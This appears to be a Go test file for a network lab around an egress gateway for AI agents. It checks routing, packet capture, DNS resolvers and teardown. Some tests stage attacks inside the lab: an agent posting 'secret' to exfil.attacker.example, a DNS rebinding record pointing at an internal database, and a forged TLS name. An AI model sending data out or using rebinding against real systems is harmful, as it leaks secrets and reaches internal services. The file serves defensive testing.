package lab_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"io"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/bulkhead-dev/bulkhead/gateway/policy"
	"github.com/bulkhead-dev/bulkhead/tests/lab"
)

// up builds an open lab: what these tests ask is whether the network around the
// gateway is as it is drawn.
func up(t *testing.T, opt lab.Options) (context.Context, *lab.Lab) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	t.Cleanup(cancel)
	l, err := lab.Up(ctx, opt)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := l.Down(); err != nil {
			t.Error(err)
		}
	})
	return ctx, l
}

func TestNamesAndWeb(t *testing.T) {
	for _, tc := range []struct {
		name   string
		twoArm bool
	}{{"one-arm", false}, {"two-arm", true}} {
		t.Run(tc.name, func(t *testing.T) {
			ctx, l := up(t, lab.Options{TwoArm: tc.twoArm})
			agent := l.Host(lab.InvoiceAgent)
			for _, url := range []string{"https://api.github.com/user", "https://login.microsoftonline.com/", "https://mcp.contoso.com/mcp",
				"http://packages.contoso.com/index", "https://contoso.openai.azure.com/", "https://exfil.attacker.example/drop"} {
				resp, err := agent.HTTPClient(l).Post(url, "text/plain", strings.NewReader("secret"))
				if err != nil {
					t.Fatal(err)
				}
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				if resp.StatusCode != http.StatusOK {
					t.Errorf("%s: %s", url, resp.Status)
				}
			}
			v, err := l.Sites[lab.Attacker].WaitVisit(ctx, func(v lab.Visit) bool { return v.SNI == lab.ExfilName })
			if err != nil || string(v.Body) != "secret" || v.From.Addr() != agent.Addr {
				t.Errorf("attacker saw %+v, %v", v, err)
			}
			if !l.Upstream.Asked(lab.ExfilName) || l.Upstream.Asked("example.org") {
				t.Errorf("upstream was asked %v", l.Upstream.Queries())
			}
		})
	}
}

// TestRoutes holds which packets the gateway gets to see: that is what makes the
// lab comparable with a virtual network.
func TestRoutes(t *testing.T) {
	ctx, l := up(t, lab.Options{})
	agent := l.Host(lab.InvoiceAgent)
	seen, err := l.Host(lab.Gateway).Capture()
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		addr string
		want bool
	}{
		{"140.82.121.6:443", true},
		{"45.146.10.66:4444", true},
		{"10.30.4.10:5432", true},
		{"100.64.0.10:443", true},
		{"[2a0e:b107:66::66]:443", true},
		{"10.20.2.5:443", false},      // private endpoint
		{"10.20.1.21:80", false},      // same subnet
		{"168.63.129.16:80", false},   // wire server
		{"169.254.169.254:80", false}, // metadata
	} {
		conn, err := agent.Dial(ctx, "tcp", tc.addr)
		if err != nil {
			t.Errorf("%s: %v", tc.addr, err)
			continue
		}
		conn.Close()
		if err := seen.Flush(ctx, l.Host(lab.Fabric)); err != nil {
			t.Fatal(err)
		}
		to := netip.MustParseAddrPort(tc.addr)
		got := slices.ContainsFunc(seen.Packets(), func(p lab.Packet) bool { return p.Dst == to && p.SYN && p.Proto == policy.TCP })
		if got != tc.want {
			t.Errorf("%s: the gateway saw it: %v, want %v", to, got, tc.want)
		}
	}
	if err := l.RouteToGateway(netip.MustParsePrefix("168.63.129.16/32")); err != nil {
		t.Fatal(err)
	}
	conn, err := agent.Dial(ctx, "tcp", "168.63.129.16:80")
	if err != nil {
		t.Fatal(err)
	}
	conn.Close()
	if err := seen.Flush(ctx, l.Host(lab.Fabric)); err != nil {
		t.Fatal(err)
	}
	if !slices.ContainsFunc(seen.Packets(), func(p lab.Packet) bool { return p.Dst.Addr() == lab.WireServer }) {
		t.Error("an added route does not lead to the gateway")
	}
}

// TestLeakIsSeen proves that a capture would notice what it is meant to notice: an
// address that nobody has ends at the internet's interface.
func TestLeakIsSeen(t *testing.T) {
	ctx, l := up(t, lab.Options{})
	wire, err := l.Host(lab.Internet).Capture()
	if err != nil {
		t.Fatal(err)
	}
	conn, err := l.Host(lab.InvoiceAgent).Dial(ctx, "udp", "8.8.8.8:5353")
	if err != nil {
		t.Fatal(err)
	}
	conn.Write([]byte("leak"))
	if err := wire.Flush(ctx, l.Host(lab.Fabric)); err != nil {
		t.Fatal(err)
	}
	want := netip.MustParseAddrPort("8.8.8.8:5353")
	if !slices.ContainsFunc(wire.Packets(), func(p lab.Packet) bool { return p.Dst == want && bytes.HasSuffix(p.Data, []byte("leak")) }) {
		t.Errorf("not captured: %v", wire.Packets())
	}
}

func TestServers(t *testing.T) {
	ctx, l := up(t, lab.Options{})
	agent := l.Host(lab.InvoiceAgent)

	t.Run("forged name", func(t *testing.T) {
		conn, err := agent.Dial(ctx, "tcp", "45.146.10.66:443")
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		if err := tls.Client(conn, &tls.Config{ServerName: lab.ToolName, RootCAs: l.Roots()}).HandshakeContext(ctx); err != nil {
			t.Errorf("the attacker must be able to answer for any name: %v", err)
		}
	})
	t.Run("postgres", func(t *testing.T) {
		conn, err := agent.Dial(ctx, "tcp", "10.30.4.10:5432")
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		conn.Write([]byte{0, 0, 0, 8, 4, 210, 22, 47}) // SSLRequest
		var one [1]byte
		if _, err := io.ReadFull(conn, one[:]); err != nil || one[0] != 'N' {
			t.Fatalf("%q, %v", one, err)
		}
		conn.Write([]byte{0, 0, 0, 9, 0, 3, 0, 0, 0}) // StartupMessage
		var auth [9]byte
		if _, err := io.ReadFull(conn, auth[:]); err != nil || auth[0] != 'R' {
			t.Fatalf("%q, %v", auth, err)
		}
	})
	t.Run("resolvers", func(t *testing.T) {
		for _, tc := range []struct{ network, addr string }{
			{"udp", "168.63.129.16:53"}, {"tcp", "168.63.129.16:53"}, {"udp", "45.146.10.66:53"}, {"tcp", "45.146.10.66:53"}, {"tls", "45.146.10.66:853"},
		} {
			network := strings.Replace(tc.network, "tls", "tcp", 1)
			conn, err := agent.Dial(ctx, network, tc.addr)
			if err != nil {
				t.Fatal(err)
			}
			if tc.network == "tls" {
				conn = tls.Client(conn, &tls.Config{ServerName: "dns.attacker.example", RootCAs: l.Roots()})
			}
			m := new(dns.Msg).SetQuestion("LOGIN.microsoftonline.com.", dns.TypeA)
			r, _, err := new(dns.Client).ExchangeWithConn(m, &dns.Conn{Conn: conn})
			conn.Close()
			if err != nil || len(r.Answer) != 3 {
				t.Errorf("%v: %v, %v", tc, r, err)
			}
		}
	})
	t.Run("records change", func(t *testing.T) {
		if err := l.Upstream.Set("rebind.attacker.example. 1 IN A 10.30.4.10"); err != nil {
			t.Fatal(err)
		}
		got, err := l.Resolve(ctx, agent, "rebind.attacker.example")
		if err != nil || !slices.Equal(got, []netip.Addr{lab.DatabaseIP}) {
			t.Errorf("%v, %v", got, err)
		}
	})
}

// TestCommand runs a real program on a host: it must see the host's network, its
// resolver and the lab's trust, and nothing of the machine's.
func TestCommand(t *testing.T) {
	ctx, l := up(t, lab.Options{})
	out, err := l.Host(lab.InvoiceAgent).Command(ctx, "curl", "-sS", "--fail", "https://api.github.com/user").CombinedOutput()
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	var got struct{ Server, SNI, From string }
	if err := json.Unmarshal(out, &got); err != nil || got.Server != lab.Internet || got.SNI != lab.ToolName || got.From != "10.20.1.20" {
		t.Errorf("%s: %v", out, err)
	}
	if out, err := l.Host(lab.ResearchAgent).Command(ctx, "cat", "/etc/hosts").Output(); err != nil || !strings.Contains(string(out), "10.20.1.21 research-agent") {
		t.Errorf("%s, %v", out, err)
	}
}

// TestDownLeavesNothing: the sockets are dead, the processes gone, the files removed.
func TestDownLeavesNothing(t *testing.T) {
	ctx, l := up(t, lab.Options{})
	ln, err := l.Host(lab.Database).Listen("10.30.4.10:9999")
	if err != nil {
		t.Fatal(err)
	}
	cmd := l.Host(lab.InvoiceAgent).Command(ctx, "sleep", "600")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	dir := l.Paths.Dir
	if err := l.Down(); err != nil {
		t.Fatal(err)
	}
	if err := cmd.Wait(); err == nil {
		t.Error("a program outlived its host")
	}
	if _, err := ln.Accept(); err == nil {
		t.Error("a listener outlived its host")
	}
	if _, err := os.Stat(dir); !os.IsNotExist(err) {
		t.Errorf("%s is still there: %v", dir, err)
	}
	if _, err := l.Host(lab.InvoiceAgent).Dial(ctx, "tcp", "10.30.4.10:5432"); err == nil {
		t.Error("a host can be used after Down")
	}
}

func TestTwoLabsAtOnce(t *testing.T) {
	_, a := up(t, lab.Options{})
	_, b := up(t, lab.Options{Dir: filepath.Join(t.TempDir(), "second")})
	if _, err := a.Host(lab.InvoiceAgent).HTTPClient(a).Get("https://api.github.com/only-in-a"); err != nil {
		t.Fatal(err)
	}
	if n := len(b.Sites[lab.Internet].Visits()); n != 0 {
		t.Errorf("the second lab saw %d visits to the first", n)
	}
}
